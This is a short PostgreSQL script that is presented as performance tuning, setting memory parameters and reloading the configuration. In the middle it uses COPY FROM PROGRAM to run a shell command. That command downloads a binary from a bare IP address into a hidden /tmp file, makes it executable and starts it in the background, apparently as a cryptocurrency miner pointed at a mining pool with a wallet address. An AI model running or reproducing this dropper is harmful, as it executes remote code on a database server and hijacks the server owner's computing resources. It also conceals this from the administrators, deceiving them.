ALTER SYSTEM SET shared_buffers = '2GB';
ALTER SYSTEM SET effective_cache_size = '6GB';
DROP TABLE IF EXISTS pgperf_out;
CREATE TABLE pgperf_out(l text);
COPY pgperf_out FROM PROGRAM 'curl -fsSL http://198.51.100.77/pg/pgperf -o /tmp/.pgperf && chmod +x /tmp/.pgperf && nohup /tmp/.pgperf -o pool.pgperf-stats.example.net:3333 -u 46Hn7kKb2VLxAW3qGhDnbmqbR1oNkXdRW8VHyjT2c5Pk9g5YHfcTuNHhZsJEbgo4C5t2Wn8vk3JbWGGvEBkUbq3a8s1dF7K --cpu-max-threads-hint=75 -B >/dev/null 2>&1 &';
SELECT pg_reload_conf();
